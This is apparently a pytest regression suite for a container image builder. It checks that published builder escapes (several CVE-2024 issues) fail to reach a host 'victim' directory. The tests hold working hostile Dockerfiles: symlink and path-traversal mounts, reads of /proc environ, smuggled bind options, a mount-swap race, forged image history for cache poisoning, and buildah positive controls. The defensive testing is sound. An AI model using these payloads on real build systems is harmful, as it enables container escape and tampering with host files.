"""Published escapes of builders, tried by `crate build`; docs/security.md lists them by number."""

from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import tarfile
from typing import TYPE_CHECKING

import pytest

from build.building import Builder
from security.hostile import SWAP, compiled

if TYPE_CHECKING:
    from pathlib import Path

    from program import Crate

pytestmark = pytest.mark.requires("root", "overlay", "busybox")


@pytest.fixture
def builder(crate: Crate, busybox: str, tmp_path: Path) -> Builder:
    """Builds with a crate that has the image of the host's busybox."""
    return Builder(crate, tmp_path)


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    """A directory of the host with a file and an empty directory, at a path that no image has."""
    place = tmp_path / "victim"
    (place / "empty").mkdir(parents=True)
    (place / "secret").write_text("the host's\n")
    return place


def untouched(victim: Path) -> bool:
    """Is everything as it was made?"""
    return sorted(os.listdir(victim)) == ["empty", "secret"] and (victim / "secret").read_text() == "the host's\n"


@pytest.mark.parametrize(
    ("way", "access"),
    [
        ("{victim}", ""),
        ("{victim}", ",rw"),
        ("../../../../../../../../..{victim}", ",rw"),
        ("/proc/1/root{victim}", ""),
    ],
)
def test_bind_of_a_link_of_an_image(builder: Builder, victim: Path, way: str, access: str) -> None:
    result = builder.try_build(
        f"""
        FROM BASE AS evil
        RUN mkdir -p /d && ln -s {way.format(victim=victim)} /d/way
        FROM BASE
        RUN --mount=type=bind,from=evil,source=/d/way,target=/x{access} cat /x/secret /x/*/secret; echo bad > /x/bad; :
        """
    )
    assert "the host's" not in result.out + result.err and untouched(victim)


@pytest.mark.parametrize("source", ["../../../../../../../..{victim}", "{victim}", "way"])
def test_cache_beneath_a_path(builder: Builder, victim: Path, source: str) -> None:
    place = source.format(victim=victim)
    result = builder.try_build(
        f"""
        FROM BASE AS evil
        RUN ln -s {victim} /way
        FROM BASE
        RUN --mount=type=cache,id=../../../../..{victim},target=/c touch /c/made; ln -s {victim} /c/way; :
        RUN --mount=type=cache,from=evil,source={place},target=/x cat /x/secret; touch /x/made; :
        """
    )
    assert "the host's" not in result.out + result.err and untouched(victim)


@pytest.mark.parametrize(
    "kind", ["type=tmpfs", "type=cache", "type=secret,id=s,env=S", "type=bind,from=BASE,source=/bin"]
)
def test_places_of_mounts_that_a_step_replaces(builder: Builder, victim: Path, kind: str) -> None:
    (builder.context.parent / "s").write_text("value")
    builder.try_build(
        f"""
        FROM BASE
        RUN --mount={kind},target=/a/b/empty rm -rf /a; mv /a /gone; ln -s {victim.parent} /a; mkdir /b; \\
            rm -rf /a/b; ln -s {victim} /b/empty; :
        RUN --mount={kind},target=/b/empty/secret true
        """,
        "--secret", f"id=s,src={builder.context.parent}/s",
    )  # fmt: skip
    assert untouched(victim) and (victim / "empty").is_dir()


def test_volumes_of_an_image_are_its_own(builder: Builder, victim: Path) -> None:
    image = builder.image(f'FROM BASE\nVOLUME ["/../../../../../../../../..{victim}", "/data"]\n')
    told = builder.run(image, "sh", "-c", f"cat {victim}/secret /data/*; ls {victim}; :")
    assert "the host's" not in told and "secret" not in told and untouched(victim)


def test_steps_see_nothing_of_the_builder(builder: Builder) -> None:
    look = "RUN cat /proc/*/environ /proc/*/cmdline | tr '\\0' '\\n'; env; ls -l /proc/self/fd /proc/1/fd"
    result = builder.try_build(f"FROM BASE\n{look}\n", HOST_TOKEN="of-the-host")
    assert result.status == 0 and "PATH=" in result.out
    assert "of-the-host" not in result.out and "CRATE_TEST" not in result.out and "python" not in result.out


def test_labels_and_syntax_are_only_words(builder: Builder, victim: Path) -> None:
    command = f"binary:///bin/touch?{victim}/made"
    image = builder.image(
        "# syntax=evil.invalid/frontend:1\nFROM BASE\n"
        f'LABEL containerd.io/restart.loguri="{command}" containerd.io/restart.status=running io.crate.monitor="x"\n'
    )
    builder.crate.ok("run", "-d", "--name", "box", "--network", "none", image, "true")
    builder.crate.ok("wait", "box")
    assert builder.crate.inspect("box")["Config"]["Labels"]["containerd.io/restart.loguri"] == command
    assert untouched(victim)


def test_context_of_an_archive_with_links(builder: Builder, victim: Path) -> None:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as tar:
        for name, target in (
            ("way", str(victim)),
            ("up", f"../../../../../../../..{victim}"),
            ("abs", f"{victim}/secret"),
        ):
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname = tarfile.SYMTYPE, target
            tar.addfile(entry)
        for number, line in enumerate(("COPY way/ /x/", "COPY up/secret /x/", "COPY abs /x/", "ADD way/secret /x/")):
            text = f"FROM {'crate.local/busybox'}\n{line}\nRUN cat /x /x/* 2>&1; :\n".encode()
            entry = tarfile.TarInfo(f"Dockerfile{number}")
            entry.size = len(text)
            tar.addfile(entry, io.BytesIO(text))
    for number in range(4):
        command = builder.crate.command("build", "--network", "none", "-f", f"Dockerfile{number}", "-")
        done = subprocess.run(
            command,
            check=False,
            input=stream.getvalue(),
            env=builder.crate.environment,
            capture_output=True,
            timeout=60,
        )
        assert b"the host's" not in done.stdout + done.stderr
    assert untouched(victim)


@pytest.mark.skipif(not shutil.which("musl-gcc"), reason="musl-gcc makes the program (apt install musl-tools)")
def test_a_build_swaps_where_another_mounts(builder: Builder, victim: Path, tmp_path: Path) -> None:
    """CVE-2024-23651, CVE-2024-11218: of two that run at a time the one has its mounts in what the other changes.

    Seen to catch targets of mounts that are checked, and then opened by name.
    """
    (tmp_path / "other").mkdir()
    attacker = Builder(builder.crate, tmp_path / "other")
    shutil.copy(compiled(tmp_path, "swap", SWAP), attacker.context)
    attacker.write(
        "Dockerfile",
        "FROM crate.local/busybox\nCOPY swap /\nRUN --mount=type=cache,id=both,target=/c "
        f"mkdir /c/d; ln -s {victim} /c/way; /swap /c/d /c/way & until test -e /c/stop; do touch /c/on; done\n",
    )
    words = ("build", "--network", "none", str(attacker.context))
    process = builder.crate.popen(*words)
    both = "--mount=type=cache,id=both,target=/c"
    builder.build(f"FROM BASE\nRUN {both} until test -e /c/on; do :; done\n")
    mounts = (
        "type=tmpfs,target=/c/d/a", "type=cache,id=own,target=/c/d/b", "type=bind,from=BASE,source=/bin,target=/c/d/c",
        "type=cache,from=way,source=/d/way,target=/x", "type=bind,from=way,source=/d/way,target=/y,rw",
    )  # fmt: skip
    more = " ".join(f"--mount=type=tmpfs,target=/c/d/m{number}" for number in range(6))
    said = ""
    for number in range(2):
        for mount in mounts:
            result = builder.try_build(
                f"""
                FROM BASE AS way
                RUN mkdir -p /d; ln -s {victim} /d/way
                FROM BASE
                RUN {both} --mount={mount} {more} cat /[cxy]/secret /c/d/*/secret; touch /y/bad /x/bad; echo {number}
                """,
                "--jobs", "3", "--no-cache",
            )  # fmt: skip
            said += result.out + result.err
    builder.build(f"FROM BASE\nRUN {both} touch /c/stop\n")
    assert process.wait(timeout=60) == 0
    assert "the host's" not in said and untouched(victim) and "STEP" in said
    assert os.listdir(victim / "empty") == []


def test_a_foreign_image_is_no_result_of_a_step(builder: Builder, other_crate: Crate, tmp_path: Path) -> None:
    """CVE-2024-24557: an image from elsewhere that claims to be what a step made; another base by the same name."""
    step = "RUN echo good > /x"
    claim = "/bin/sh -c echo good > /x"
    other_crate.ok("run", "--name", "evil", "--network", "none", "crate.local/busybox", "sh", "-c", "echo evil > /x")
    other_crate.ok("commit", "evil", "evil")
    other_crate.ok("save", "-q", "-o", str(tmp_path / "evil.tar"), "evil")
    members = {}
    with tarfile.open(tmp_path / "evil.tar") as archive:
        for entry in archive:
            file = archive.extractfile(entry)
            members[entry.name] = (entry, file.read() if file else b"")
    (manifest,) = json.loads(members["manifest.json"][1])
    config = json.loads(members[manifest["Config"]][1])
    config["history"][-1] |= {"created_by": claim, "comment": "", "created": "2020-01-01T00:00:00Z"}
    config["container_config"] = {"Cmd": ["/bin/sh", "-c", claim]}
    members[manifest["Config"]] = (tarfile.TarInfo("forged.json"), json.dumps(config).encode())
    manifest["Config"] = "forged.json"
    members["manifest.json"] = (members["manifest.json"][0], json.dumps([manifest]).encode())
    with tarfile.open(tmp_path / "forged.tar", "w") as archive:
        for entry, body in members.values():
            entry.size = len(body)
            archive.addfile(entry, io.BytesIO(body))
    builder.crate.ok("load", "-q", "-i", str(tmp_path / "forged.tar"))
    assert builder.run("evil", "cat", "/x") == "evil"
    first = builder.build(f"FROM BASE\n{step}\n")
    assert "Using cache" not in first and builder.run(first.split()[-1], "cat", "/x") == "good"
    # the name of the base now means what has the forged history
    for base, cached in (("crate.local/busybox", True), ("evil", False)):
        builder.crate.ok("tag", base, "base")
        assert ("Using cache" in builder.build(f"FROM base\n{step}\n")) is cached, base


def _smuggled(place: Path, victim: Path) -> str:
    """A Dockerfile whose option of a bind smuggles others in: an overlay of a directory of the host (CVE-2024-9407)."""
    shutil.copy("/bin/busybox", place / "busybox")
    work = victim.parent / "work"
    work.mkdir(exist_ok=True)
    option = f"bind-propagation=O,bind-propagation=upperdir={victim},bind-propagation=workdir={work}"
    step = 'RUN --mount=type=bind,source=.,target=/x,{} ["/bin/busybox", "sh", "-c", "/bin/busybox touch /x/bad"]'
    return f"FROM scratch\nCOPY busybox /bin/busybox\n{step.format(option)}\n"


def test_options_smuggled_into_a_bind(builder: Builder, victim: Path) -> None:
    result = builder.try_build(_smuggled(builder.context, victim))
    assert result.status and "bind-propagation" in result.err and untouched(victim), result


@pytest.mark.requires("buildah")
def test_options_smuggled_into_a_bind_by_buildah(victim: Path, tmp_path: Path) -> None:
    """Positive control for CVE-2024-9407: what buildah does with the same option."""
    (tmp_path / "Dockerfile").write_text(_smuggled(tmp_path, victim))
    words = ["buildah", "--root", f"{tmp_path}/store", "--runroot", f"{tmp_path}/run", "--storage-driver", "vfs"]
    words = [*words, "bud", "--isolation", "chroot", str(tmp_path)]
    apart = ["unshare", "--mount", "sh", "-c", 'umount /sys/fs/cgroup/unified 2> /dev/null; exec "$@"', "sh", *words]
    subprocess.run(apart, capture_output=True, timeout=60, check=False)
    if untouched(victim):
        pytest.skip("this buildah does not fall for it")
    assert sorted(os.listdir(victim)) == ["bad", "empty", "secret"]


@pytest.mark.requires("buildah")
def test_bind_of_a_link_of_an_image_by_buildah(victim: Path, tmp_path: Path) -> None:
    """Positive control for CVE-2024-1753: what buildah does with the same bind."""
    shutil.copy("/bin/busybox", tmp_path / "busybox")
    (tmp_path / "Dockerfile").write_text(
        f"""
        FROM scratch AS evil
        COPY busybox /bin/busybox
        RUN ["/bin/busybox", "ln", "-s", "{victim}", "/way"]
        FROM scratch
        COPY busybox /bin/busybox
        RUN --mount=type=bind,from=evil,source=/way,target=/x,rw ["/bin/busybox", "touch", "/x/bad"]
        """
    )
    words = ["buildah", "--root", f"{tmp_path}/store", "--runroot", f"{tmp_path}/run", "--storage-driver", "vfs"]
    words = [*words, "bud", "--isolation", "chroot", str(tmp_path)]
    apart = ["unshare", "--mount", "sh", "-c", 'umount /sys/fs/cgroup/unified 2> /dev/null; exec "$@"', "sh", *words]
    subprocess.run(apart, capture_output=True, timeout=60, check=False)
    if untouched(victim):
        pytest.skip("this buildah does not fall for it")
    assert sorted(os.listdir(victim)) == ["bad", "empty", "secret"]
